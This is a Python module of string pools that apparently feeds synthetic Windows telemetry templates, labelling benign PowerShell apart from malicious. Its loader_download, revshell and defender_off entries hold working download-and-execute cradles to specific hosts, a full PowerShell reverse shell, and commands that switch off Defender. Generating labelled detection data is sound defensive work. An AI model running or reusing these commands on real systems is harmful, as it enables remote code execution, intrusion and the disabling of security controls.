"""Small string pools used inside templates: documents, shares, task and service names,
encoded PowerShell scripts."""

DOC_STEMS = [
    "Q3 Forecast", "Budget 2026", "Invoice_48213", "Sales Pipeline", "Board Deck",
    "Project Plan", "Meeting Notes", "Vendor Contract", "Employee Handbook", "Timesheet",
    "Expense Report", "Shipping Schedule", "Customer List", "Product Roadmap", "Team Roster",
    "Onboarding Checklist", "Purchase Order 7731", "Quarterly Review", "Travel Itinerary",
    "Marketing Plan", "Risk Register", "Inventory", "Price List", "Proposal Draft",
    "Statement of Work", "Release Notes", "Architecture Overview", "Audit Findings",
    "Payroll Summary", "Benefits Enrollment", "Training Schedule", "Org Chart",
    "Warehouse KPIs", "Freight Rates", "Incident Report", "Lessons Learned",
]
DOCUMENTS = [s + e for s in DOC_STEMS for e in (".docx", ".xlsx", ".pptx", ".pdf")]

SHARES = ["Finance", "HR", "Shared", "Projects", "Public", "Sales", "Engineering", "Scans",
          "Marketing", "Operations", "Legal", "IT$", "Deploy$", "Software"]

TASK_NAMES = [
    r"\Microsoft\Windows\UpdateOrchestrator\Schedule Scan",
    r"\Microsoft\Windows\Defrag\ScheduledDefrag",
    r"\Microsoft\Windows\Windows Defender\Windows Defender Scheduled Scan",
    r"\Microsoft\Windows\WindowsUpdate\Scheduled Start",
    r"\MicrosoftEdgeUpdateTaskMachineUA",
    r"\GoogleUpdateTaskMachineCore",
    r"\OneDrive Standalone Update Task-S-1-5-21",
    r"\Microsoft\Office\Office Automatic Updates 2.0",
    r"\Microsoft\Windows\Application Experience\Microsoft Compatibility Appraiser",
    r"\Adobe Acrobat Update Task",
    r"\Microsoft\Windows\DiskCleanup\SilentCleanup",
]

SERVICE_NAMES = ["wuauserv", "BITS", "Spooler", "WinRM", "RemoteRegistry", "W32Time",
                 "MSSQLSERVER", "SQLSERVERAGENT", "W3SVC", "Dnscache", "LanmanServer",
                 "TermService", "Schedule", "EventLog", "CcmExec", "VeeamBackupSvc"]

GROUPS = ["Domain Admins", "Domain Users", "Enterprise Admins", "Remote Desktop Users",
          "Backup Operators", "Server Operators", "Account Operators", "VPN Users",
          "Print Operators", "DnsAdmins"]

SHAREPOINT_SITES = ["sites/Finance", "sites/HR", "sites/Sales", "sites/Engineering",
                    "sites/Operations", "sites/Marketing", "sites/Intranet", "sites/ITSupport",
                    "sites/Legal", "sites/Projects"]

# Scripts behind -EncodedCommand (rendered, then UTF-16LE + base64 like PowerShell does)
ENCODED_SCRIPTS = {
    # management agents query inventory with encoded commands (benign)
    "inventory": [
        "Get-WmiObject -Class Win32_ComputerSystem | Select-Object Manufacturer,Model,TotalPhysicalMemory | ConvertTo-Json",
        "Get-CimInstance Win32_OperatingSystem | Select-Object Caption,Version,LastBootUpTime | ConvertTo-Json -Compress",
        "Get-ItemProperty 'HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\*' | Select-Object DisplayName,DisplayVersion | ConvertTo-Json",
        "$ErrorActionPreference='SilentlyContinue'; (Get-MpComputerStatus).AntivirusSignatureVersion",
        "Get-BitLockerVolume -MountPoint C: | Select-Object VolumeStatus,ProtectionStatus | ConvertTo-Json",
    ],
    "compliance": [
        "$r = Test-Path 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender'; Write-Output $r",
        "Get-Service -Name WinDefend,Sense,wuauserv | Select-Object Name,Status | ConvertTo-Json",
        "[Environment]::OSVersion.Version.ToString()",
    ],
    "admin_recon": [
        "Get-ADUser -Filter * -Properties LastLogonDate | Where-Object {{$_.LastLogonDate -lt (Get-Date).AddDays(-90)}} | Select-Object SamAccountName",
        "Get-ADComputer -Filter {{OperatingSystem -like '*Server*'}} | Select-Object Name,DNSHostName",
        "Get-ADGroupMember -Identity 'Domain Admins' | Select-Object SamAccountName",
    ],
    # what loaders, intruders and testers run (malicious or dual use)
    "loader_download": [
        "IEX (New-Object Net.WebClient).DownloadString('http://185.172.128.69/a.ps1')",
        "$w=New-Object System.Net.WebClient;$w.DownloadFile('http://193.233.20.12/upd.exe',\"$env:TEMP\\upd.exe\");Start-Process \"$env:TEMP\\upd.exe\"",
        "Invoke-WebRequest -Uri 'https://paste.ee/r/Xq2c9' -UseBasicParsing | Invoke-Expression",
        "IEX (New-Object Net.WebClient).DownloadString('http://update-check-cdn.top/s.ps1')",
    ],
    "loader_recon": [
        "whoami /all; net user /domain; net group 'Domain Admins' /domain; Get-ADComputer -Filter * | Select-Object Name; systeminfo",
        "hostname; ipconfig /all; arp -a; Get-ADUser -Filter * -Properties * | Select-Object SamAccountName,Description; tasklist",
        "Get-ADGroupMember -Identity 'Domain Admins'; nltest /domain_trusts; net group 'Enterprise Admins' /domain; whoami",
    ],
    "revshell": [
        "$client = New-Object System.Net.Sockets.TCPClient('45.146.164.110',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{{0}};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){{;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()}};$client.Close()",
    ],
    "defender_off": [
        "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath $env:APPDATA; Add-MpPreference -ExclusionProcess 'rundll32.exe'",
    ],
}

